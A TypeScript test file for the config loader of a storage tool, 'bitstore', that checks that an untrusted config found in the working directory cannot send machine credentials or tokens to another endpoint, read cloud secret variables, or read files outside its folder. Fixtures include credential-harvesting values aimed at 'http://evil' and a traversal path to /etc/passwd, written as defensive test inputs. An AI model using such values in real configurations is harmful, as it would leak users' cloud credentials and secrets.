import { symlink } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { loadConfig } from "../src/load-config.ts";
import { folderWith, mistakes } from "./folder.ts";

const trust = "name the file with --config or BITSTORE_CONFIG if you trust it";

describe("a config that was found in the working directory", () => {
  // Somebody clones a repository and runs bitstore in it: the file there is a stranger's.
  it.each<[string, string, string]>([
    ["s3", "{ url: s3://models/, endpoint: 'http://evil' }", "2:36: tiers[0].endpoint"],
    ["s3, in the URL", "{ url: 's3://models/?endpoint=http://evil' }", "2:12: tiers[0].url"],
    [
      "s3 with a profile of the machine",
      "{ url: s3://models/, profile: default, endpoint: 'http://evil' }",
      "2:54: tiers[0].endpoint",
    ],
    ["gs", "{ url: gs://models/, endpoint: 'http://evil' }", "2:36: tiers[0].endpoint"],
    ["az", "{ url: az://models/, endpoint: 'http://evil' }", "2:36: tiers[0].endpoint"],
    [
      "the chain, listed",
      "{ url: s3://models/, endpoint: 'http://evil', credentials: [anonymous, default] }",
      "2:36: tiers[0].endpoint",
    ],
  ])(
    "may not send the machine's credentials to an endpoint of its own: %s",
    async (_, tier, place) => {
      const cwd = await folderWith({ "bitstore.yaml": `tiers:\n  - ${tier}\n` });
      const line = `bitstore.yaml:${place}: an endpoint here would be sent the machine's own credentials; say anonymous, list credentials of its own, or ${trust}`;
      expect((await mistakes(cwd)).lines).toEqual([line]);
      // The same file is obeyed once somebody names it.
      await loadConfig({ cwd, env: {}, file: "bitstore.yaml" });
      await loadConfig({ cwd, env: { BITSTORE_CONFIG: "bitstore.yaml" } });
    },
  );

  it("may not do so for the metadata either, nor when --tier replaces its tiers", async () => {
    const cwd = await folderWith({
      "bitstore.yaml": "tiers: [{ url: ./a }]\nmetadata: 's3://models/?endpoint=http://evil'\n",
    });
    const { lines } = await mistakes(cwd, { tiers: [{ kind: "tier", url: "./b" }] });
    expect(lines[0]).toContain("bitstore.yaml:2:11: metadata: an endpoint here would be sent");
  });

  it.each([
    ["anonymous", "{ url: s3://models/, endpoint: 'http://h', anonymous: true }"],
    [
      "with credentials of its own",
      "{ url: s3://models/, endpoint: 'http://h', credentials: { accessKeyId: a, secretAccessKey: env:TEAM_KEY } }",
    ],
    ["without an endpoint", "{ url: s3://models/, profile: default }"],
  ])("may name an endpoint %s", async (_, tier) => {
    const cwd = await folderWith({ "bitstore.yaml": `tiers:\n  - ${tier}\n` });
    await loadConfig({ cwd, env: {} });
  });

  it("may not send the token of the environment to a server of its own", async () => {
    const evil = await folderWith({
      "bitstore.yaml": "tiers:\n  - { url: 'bitstore+https://evil' }\n",
    });
    const line = `bitstore.yaml:2:12: tiers[0].url: another bitstore here would be sent BITSTORE_TOKEN; give it an authorization header of its own, or ${trust}`;
    expect((await mistakes(evil)).lines).toEqual([line]);
    await loadConfig({ cwd: evil, env: {}, file: "bitstore.yaml" });
    const cwd = await folderWith({
      "bitstore.yaml": `tiers:\n  - { url: 'bitstore+http://127.0.0.1:7070' }\n`,
    });
    await loadConfig({ cwd, env: {} });
    const own = await folderWith({
      "bitstore.yaml": `tiers:\n  - { url: 'bitstore+https://team', headers: { authorization: Bearer env:TEAM_TOKEN } }\n`,
    });
    await loadConfig({ cwd: own, env: {} });
  });

  it("may not read the variables that clouds take credentials from", async () => {
    const cwd = await folderWith({
      "bitstore.yaml": `tiers:
  - url: "https://evil/\${AWS_SECRET_ACCESS_KEY}/{hex}"
  - url: "https://evil/{hex}"
    headers: { x-a: env:AZURE_STORAGE_CONNECTION_STRING }
`,
    });
    const env = { AWS_SECRET_ACCESS_KEY: "s3cr3t" };
    const { lines, message } = await mistakes(cwd, { env });
    expect(lines).toEqual([
      `bitstore.yaml:2:10: tiers[0].url: a config found in the working directory may not read AWS_SECRET_ACCESS_KEY; ${trust}`,
      `bitstore.yaml:4:14: tiers[1].headers: a config found in the working directory may not read AZURE_STORAGE_CONNECTION_STRING; ${trust}`,
    ]);
    expect(message).not.toContain("s3cr3t");
    await loadConfig({ cwd, env, file: "bitstore.yaml" });
  });

  it("may read files of its own folder only, and no link leads out of it", async () => {
    const outside = await folderWith({ key: "s3cr3t" });
    const cwd = await folderWith({ token: "t" });
    await symlink(join(outside, "key"), join(cwd, "link"));
    const { writeFile } = await import("node:fs/promises");
    const write = async (target: string): Promise<void> =>
      await writeFile(
        join(cwd, "bitstore.yaml"),
        `tiers:\n  - url: https://evil/{hex}\n    headers: { authorization: "Bearer file:${target}" }\n`,
      );
    await write("./token");
    await loadConfig({ cwd, env: {} });
    for (const target of [join(outside, "key"), "../x/../../etc/passwd", "./link"]) {
      await write(target);
      expect((await mistakes(cwd)).lines).toEqual([
        `bitstore.yaml:3:14: tiers[0].headers: a config found in the working directory may not read files outside of it; ${trust}`,
      ]);
      await loadConfig({ cwd, env: {}, file: "bitstore.yaml" });
    }
  });
});

describe("a module", () => {
  it("runs only where --config names it", async () => {
    // The module says that it ran by throwing, which the config would report.
    const text = "throw new Error('it ran');";
    const cwd = await folderWith({ "bitstore.ts": text, "bitstore.config.ts": text });
    expect((await loadConfig({ cwd, env: {} })).file).toBeUndefined();
    expect((await mistakes(cwd, { env: { BITSTORE_CONFIG: "bitstore.ts" } })).lines).toEqual([
      "bitstore.ts: a module runs code; name it with --config",
    ]);
    expect((await mistakes(cwd, { file: "bitstore.ts" })).lines).toEqual([
      "bitstore.ts: could not be run: it ran",
    ]);
  });
});
